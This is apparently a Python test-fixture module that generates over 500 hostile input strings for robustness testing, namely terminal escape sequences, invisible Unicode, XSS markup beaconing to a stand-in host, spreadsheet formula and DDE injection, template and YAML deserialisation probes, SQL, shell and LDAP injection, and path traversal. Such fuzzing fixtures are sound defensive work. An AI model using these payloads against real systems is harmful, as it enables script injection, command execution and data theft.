"""The hostile strings: at least 500, each once, in a fixed order, by what they would like to do.

`BEACON` in one is replaced by the address of a listener before it is shown to a browser: a request there is an escape.
`FORGED` begins what must never stand at the beginning of a line, `Pwned` is the title a script would set.
"""

from __future__ import annotations

from itertools import count, product

BEACON = "http://beacon.invalid"

#: everything that acts on a terminal alone: C0, DEL, C1
_CONTROLS = [*map(chr, range(0x20)), "\x7f", *map(chr, range(0x80, 0xA0))]
#: characters that reorder, join, hide, or stand for nothing that is seen (UAX 9, UAX 44 Default_Ignorable_Code_Point)
_INVISIBLE = [*map(chr, (
    0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5, *range(0x180B, 0x1810), *range(0x200B, 0x2010), 0x2028, 0x2029,
    *range(0x202A, 0x202F), *range(0x2060, 0x2070), 0x2800, 0x3164, 0xFEFF, 0xFFA0, *range(0xFFF0, 0xFFFC), 0xFFFE,
    0x1BCA0, 0x1D173, 0xE0001, 0xE0041, 0xE007F, 0xE0101, 0x1FFFF, 0x10FFFF, 0xD800, 0xDC00, 0xDFFF))]
_SEQUENCES = [
    "\x1b[2J\x1b[H", "\x1b[31;5mred", "\x1b[8mhidden", "\x1b[6n", "\x1b[c", "\x1b[?1049h", "\x1b[?47h", "\x1b[999;1H",
    "\x1b[1A\x1b[2K", "\x1bc", "\x1b#8", "\x1b(0", "\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x1b]52;c;cm0gLXJm\x07",
    f"\x1b]8;;{BEACON}/link\x07click\x1b]8;;\x07", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b]50;?\x07",
    "\x1bP$q\"p\x1b\\",
    "\x1b_Gi=1,a=q;AAAA\x1b\\", "\x1b^private\x1b\\", "\x9b2J", "\x9b31m", "\x9d0;title\x9c", "\x90+q544e\x9c",
    "\x1b[5i", "\x1b[4i", "\x1b[?2004l", "\x1b[201~", "\x1b[3J", "\x1b[20t", "\x1b[21t", "\x1b]4;1;?\x07",
    "\x1b]10;?\x07",
    "anna\x08\x08\x08\x08root", "no\rFORGED yes", "a\x0bFORGED", "a\x0cFORGED", "a\x85FORGED",
    "a\nFORGED: all is well",
    "a\r\nFORGED exit 0", "a\u2028FORGED", "a\u2029FORGED", "a\x1cFORGED", "a\x1dFORGED", "a\x1eFORGED",
    "\n\n\nFORGED", "x\x00y", "\x1b", "\x1b[", "\x9b", "\u202emoc.osotnoc", "\u2066admin\u2069 \u2066// ok",
    "e\u0301" + "\u0300" * 60, "\ud83d", "\ude00", "\ud83d\ude00", "\U0001f468\u200d\U0001f469\u200d\U0001f467"]
_SCRIPT = f"document.title='Pwned';new Image().src='{BEACON}/script'"
_MARKUP = [
    f"<script>{_SCRIPT}</script>", f"</td><script>{_SCRIPT}</script>", f"</title><script>{_SCRIPT}</script>",
    f"</style><script>{_SCRIPT}</script>", f"--><script>{_SCRIPT}</script>", f"<ScRiPt>{_SCRIPT}</sCrIpT>",
    f"<script src={BEACON}/s.js></script>", f"<script\n>{_SCRIPT}</script\t>", f"<script/x>{_SCRIPT}</script>",
    f"<img src=x onerror=\"{_SCRIPT}\">", f"<img src={BEACON}/img>", f"<img/src=x/onerror={_SCRIPT}>",
    f"<svg onload=\"{_SCRIPT}\">", f"<svg><script>{_SCRIPT}</script></svg>", f"<svg/onload={_SCRIPT}>",
    f"<svg><animate onbegin=\"{_SCRIPT}\" attributeName=x>", f"<body onload=\"{_SCRIPT}\">",
    f"<iframe src=\"javascript:{_SCRIPT}\"></iframe>", f"<iframe src={BEACON}/frame></iframe>",
    f"<iframe srcdoc=\"<script>{_SCRIPT}</script>\">", f"<object data={BEACON}/object></object>",
    f"<embed src={BEACON}/embed>", f"<link rel=stylesheet href={BEACON}/css>",
    f"<link rel=prefetch href={BEACON}/pre>",
    f"<link rel=dns-prefetch href={BEACON}>", f"<style>@import '{BEACON}/import'</style>",
    f"<style>*{{background:url({BEACON}/bg)}}</style>",
    f"<meta http-equiv=refresh content=\"0;url={BEACON}/refresh\">",
    f"<base href={BEACON}/>", f"<form action={BEACON}/form><input autofocus onfocus=\"{_SCRIPT}\"></form>",
    f"<input autofocus onfocus=\"{_SCRIPT}\">", f"<details open ontoggle=\"{_SCRIPT}\">",
    f"<video src={BEACON}/video>",
    f"<audio src={BEACON}/audio autoplay>", f"<video><source onerror=\"{_SCRIPT}\"></video>", "<plaintext>", "<xmp>",
    f"<marquee onstart=\"{_SCRIPT}\">", f"<math><mtext><script>{_SCRIPT}</script></mtext></math>", "<template><b>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_SCRIPT}>\">", f"<a href=\"javascript:{_SCRIPT}\">x</a>",
    f"\"><script>{_SCRIPT}</script>", f"'><script>{_SCRIPT}</script>", f"\" onmouseover=\"{_SCRIPT}\" x=\"",
    f"' autofocus onfocus='{_SCRIPT}", f"`onclick={_SCRIPT}`", f"&lt;script&gt;{_SCRIPT}&lt;/script&gt;",
    f"&#60;script&#62;{_SCRIPT}&#60;/script&#62;", f"<!--[if gte IE 4]><script>{_SCRIPT}</script><![endif]-->",
    f"<![CDATA[<script>{_SCRIPT}</script>]]>", f"<?xml-stylesheet href=\"{BEACON}/xml\"?>",
    f"<!DOCTYPE x SYSTEM \"{BEACON}/d\">",
    f"<scr\x00ipt>{_SCRIPT}</scr\x00ipt>", f"\uff1cscript\uff1e{_SCRIPT}", f"+ADw-script+AD4-{_SCRIPT}", "</html>",
    "</body>",
    "</table></table>", "<textarea>", "<title>Pwned", "<!--", "]]>", "<dialog open>x</dialog>", "<select><option>",
    f"<picture><source srcset={BEACON}/set><img></picture>", f"<table background={BEACON}/table>", "<h1>Pwned</h1>",
    f"<td style=\"background:url({BEACON}/style)\">", f"<p style=\"behavior:url({BEACON}/b)\">",
    "<button formaction=x>"]
_FORMULAE = [begin + rest for begin, rest in product(
    ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", "\"=", ";=", ",="),
    ("1+1", "cmd|'/c calc'!A1", f"HYPERLINK(\"{BEACON}/cell\",\"x\")", "DDE(\"a\";\"b\")"))]
_TEMPLATES = [
    "{{ 7*7 }}", "{{7*'7'}}", "{{ target }}", "{{ row.name }}", "{% raw %}", "{# note #}", "{{ ''.__class__ }}",
    "{{", "}}",
    "{%", "%}", "{{ cycler.__init__.__globals__ }}", "{{ lookup('env','HOME') }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "$(id)",
    "`id`", "%(name)s", "%s%s%s%n", "{0.__class__}", "{name}", "!!python/object/apply:os.system [id]",
    "!secret env:HOME",
    "&a [*a]", "*a", "<<: *a", "---", "...", "- a\n- b", "a: b", "? x", "| ", "> ", "# not a comment", "!vault x",
    "yes",
    "null", "~", "0o17", "1e3", "012", "22:30:00", ".inf", "2026-02-30", "\\x1b[31m", "\\u202e", "%1b%5b", "\\",
    "\\\\",
    "'; DROP TABLE records; --", "' OR 1=1 --", "\" OR \"\"=\"", "anna@contoso.com'--", "*)(uid=*))(|(uid=*",
    "(cn=*)",
    "Anna; rm -rf ~", "Anna && id", "Anna | id", "$HOME", "~root", "%HOMEPATH%", "-rf", "--yes", "--state=/tmp/x",
    "-", "--"]
_PATHS = [
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\Windows\\x", "\\\\host\\share\\x", "//host/share/x",
    "CON",
    "NUL.csv", "aux", "COM1", "LPT9.txt", "a/../../b", "./.", "..", ".", "file:///etc/passwd",
    "x" * 300, "a\x00.csv", "a.csv.",
    "a ", "ﬁle", "ｆｉｌｅ", "file.CSV", "~/x", "a:b", "a*b", "a?b", "a<b>c", "a|b", "a\"b", "%2e%2e%2f", "..%c0%af"]


def hostile() -> list[str]:
    """All of them; those that are one character stand between letters too, where no trimming reaches them."""
    found = [*_SEQUENCES, *_MARKUP, *_FORMULAE, *_TEMPLATES, *_PATHS]
    found += [f"anna{sign}kern" for sign in (*_CONTROLS, *_INVISIBLE)]
    found += [sign for sign in (*_CONTROLS, *_INVISIBLE)]
    found += [f"{first} {second}" for first, second in zip(_SEQUENCES, _MARKUP, strict=False)]
    found += ["A" * 10_000, "\x1b[31m" * 2_000, "<b>" * 3_000, "\u202e" * 3_000, "\n" * 5_000]
    return list(dict.fromkeys(found))


def some(every: int) -> list[str]:
    """Each `every`-th, from a start that differs by length, so that every kind is met in a short form too."""
    return [each for number, each in zip(count(), hostile(), strict=False) if number % every == 0]
